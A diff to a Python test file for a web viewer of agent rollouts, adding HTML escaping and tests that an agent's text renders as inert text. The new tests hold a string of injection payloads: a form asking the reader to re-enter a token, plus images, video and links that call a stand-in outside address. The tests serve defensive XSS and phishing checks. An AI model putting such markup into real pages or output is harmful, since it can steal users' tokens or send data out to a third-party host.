@@ -1,5 +1,6 @@
 """The pure renderers: RolloutResult -> what the page shows."""
 
+import html
 import json
 import math
 import re
@@ -95,16 +96,16 @@ def test_conversation_shows_each_message_once_with_tool_calls_and_results():
     msgs = render.conversation(_result())
     titles = [m.get("metadata", {}).get("title") for m in msgs]
     assert titles == ["system prompt", None, "tool call: bash", "tool result c1", None]
-    assert msgs[1] == {"role": "user", "content": "Write a.txt"}
-    assert '"command": "echo hi > a.txt"' in msgs[2]["content"]
-    assert msgs[-1] == {"role": "assistant", "content": "done"}
+    assert msgs[1] == {"role": "user", "content": '<div class="he-chat-text">Write a.txt</div>'}
+    assert '"command": "echo hi > a.txt"' in html.unescape(msgs[2]["content"])
+    assert msgs[-1] == {"role": "assistant", "content": '<div class="he-chat-text">done</div>'}
 
 
 def test_conversation_marks_a_new_branch():
     other = _turn(2, [SYS, {"role": "user", "content": "summary of the work"}], text="ok")
     msgs = render.conversation(_result(proxy_turns=[T0, T1, other]))
     assert any(m.get("metadata", {}).get("title") == "new branch" for m in msgs)
-    assert msgs[-1]["content"] == "ok"
+    assert msgs[-1]["content"] == '<div class="he-chat-text">ok</div>'
 
 
 def test_logprob_points_one_per_token_and_plot():
@@ -147,7 +148,7 @@ def test_redact_and_json():
     assert json.loads(render.result_json(_result()))["reward"] == 1.0
     summary = render.summary_markdown(_result(error="a | b", error_kind="agent_error"))
     assert "capture level | tokens" in summary and "a &#124; b" in summary
-    labelled = render.summary_markdown(_result(rollout_type="eval", rollout_type_reason="its logprobs are raw"))
+    labelled = html.unescape(render.summary_markdown(_result(rollout_type="eval", rollout_type_reason="its logprobs are raw")))
     assert "rollout type | eval: its logprobs are raw" in labelled and "turn graph | 0 branch(es)" in labelled
 
 
@@ -245,6 +246,85 @@ def test_message_content_is_flattened_one_way_for_chat_and_trajectory():
     assert content_text(parts) == "a\n\n[image_url]\nraw"
     assert content_text(None) == "" and content_text("s") == "s" and content_text({"k": 1}) == '{"k": 1}'
     msgs = render.conversation(_result(proxy_turns=[_turn(0, [{"role": "user", "content": parts}], text="ok")]))
-    assert msgs[0] == {"role": "user", "content": "a\n\n[image_url]\nraw"}
+    assert msgs[0] == {"role": "user", "content": '<div class="he-chat-text">a\n\n[image_url]\nraw</div>'}
     html = render.trajectory_html({"steps": [{"step_id": 1, "source": "user", "message": parts}]})
     assert "<pre>a\n\n[image_url]\nraw</pre>" in html
+
+
+# -- what the agent wrote shows as text, never as markup ------------------------------------------
+EVIL = "203.0.113.9"  # TEST-NET-3: a page that asked for it would be caught, and nothing answers
+HOSTILE = (f'<img src="http://{EVIL}/i.png"><video src="http://{EVIL}/v.mp4" autoplay></video>'
+           f'<form action="http://{EVIL}/t"><p>Re-enter your token</p><input name="token"></form><a href="http://{EVIL}/">sign in</a> '
+           f"![x](http://{EVIL}/m.png) [Re-enter your token](http://{EVIL}/l) <http://{EVIL}/auto> www.{EVIL}.example "
+           f"http://{EVIL}/bare a@{EVIL}.example $$\\href{{http://{EVIL}}}{{x}}$$ **bold** `code` | cell |\n---\n# heading")
+
+
+def _hostile_result() -> RolloutResult:
+    call = {"id": HOSTILE, "type": "function", "function": {"name": HOSTILE, "arguments": HOSTILE}}
+    msgs = [{"role": "system", "content": HOSTILE}, {"role": "user", "content": [{"type": "text", "text": HOSTILE}]},
+            {"role": "assistant", "content": HOSTILE, "reasoning_content": HOSTILE, "tool_calls": [call]},
+            {"role": "tool", "name": HOSTILE, "content": HOSTILE}]
+    turn = Turn(index=0, request_messages=msgs, completion_text=HOSTILE, reasoning_text=HOSTILE, tool_calls=[call],
+                upstream_error=HOSTILE, upstream_status=500, per_token_logps=[-1.0], completion_tokens=[HOSTILE], completion_token_ids=[1])
+    return _result(proxy_turns=[turn], error=HOSTILE, error_kind="agent_error", reward_notes=[HOSTILE], sandbox_notes=[HOSTILE],
+                   rollout_type_reason=HOSTILE, task_id=HOSTILE, files={HOSTILE: HOSTILE},
+                   verify_results=[CommandResult(cmd=HOSTILE, exit_code=1, stdout=HOSTILE, stderr=HOSTILE)])
+
+
+def _tags(markup: str) -> set[str]:
+    return {t.lower() for t in re.findall(r"<([a-zA-Z][\w-]*)", markup)}
+
+
+def test_the_conversation_shows_every_message_and_title_as_escaped_text():
+    msgs = render.conversation(_hostile_result())
+    assert len(msgs) >= 8
+    for m in msgs:
+        assert _tags(m["content"]) <= {"div", "pre"}, m["content"]  # the wrapper only
+        assert _tags(m.get("metadata", {}).get("title", "")) == set()
+        assert HOSTILE.replace("\n", "") in html.unescape(m["content"]).replace("\n", "") or "branch" in m["content"] \
+            or "http" not in m["content"]
+
+
+def _markdown_html(md: str) -> str:
+    """What a Markdown renderer (CommonMark with raw HTML, and tables) makes of it; GFM autolinks are
+    tried in the browser test."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").enable("table").render(md)  # raw HTML on, as in Gradio
+
+
+def test_data_in_markdown_components_is_inert():
+    from harness_env.server.web.render_text import md_cell, md_text
+
+    result = _hostile_result()
+    points = render.logprob_points(result.proxy_turns)
+    for md in (render.summary_markdown(result), render.logprob_summary_markdown(points), md_text(HOSTILE),
+               f"**{md_cell(HOSTILE)}**", render.status_line(HOSTILE, 1.0, HOSTILE)):
+        shown = _markdown_html(md)
+        assert _tags(shown) <= {"p", "strong", "table", "thead", "tbody", "tr", "th", "td", "code"}, shown
+        assert not re.search(r"<[^>]*\s(href|src|action)=", shown), shown
+    assert html.unescape(_markdown_html(md_text("a <b> & ![x](y)"))).strip() == "<p>a <b> & ![x](y)</p>"
+
+
+def test_every_html_renderer_escapes_the_agents_text():
+    result = _hostile_result()
+    shown = [render.reward_html(result), render.commands_html(result.verify_results), render.files_html(result.files),
+             render.token_view_html(result.proxy_turns), render.logprob_svg(render.logprob_points(result.proxy_turns)),
+             render.json_html(render.result_json(result), 10_000)]
+    for markup in shown:
+        assert not _tags(markup) & {"img", "video", "form", "a", "input", "audio", "iframe", "source"}, markup
+
+
+def test_a_long_rollouts_plot_is_thinned_not_unbounded():
+    points = [render.TokenPoint(k // 1000, k, "t", -0.5) for k in range(100_000)]
+    svg = render.logprob_svg(points)
+    assert 9_000 <= svg.count('class="he-token"') <= 10_000 and "every 10th of 100000 tokens shown" in svg
+
+
+def test_a_conversation_of_millions_of_tiny_messages_is_cut_with_a_note():
+    """A file of 4 million {"role": "user"} (64 MB) made 4 million Chatbot messages."""
+    from harness_env.server.web.render_turns import MAX_CHAT_MESSAGES
+
+    turn = _turn(0, [{"role": "user", "content": "m"}] * 50_000, text="ok")
+    msgs = render.conversation(_result(proxy_turns=[turn]))
+    assert len(msgs) == MAX_CHAT_MESSAGES + 1 and "the first 5000 messages are shown" in msgs[-1]["content"]
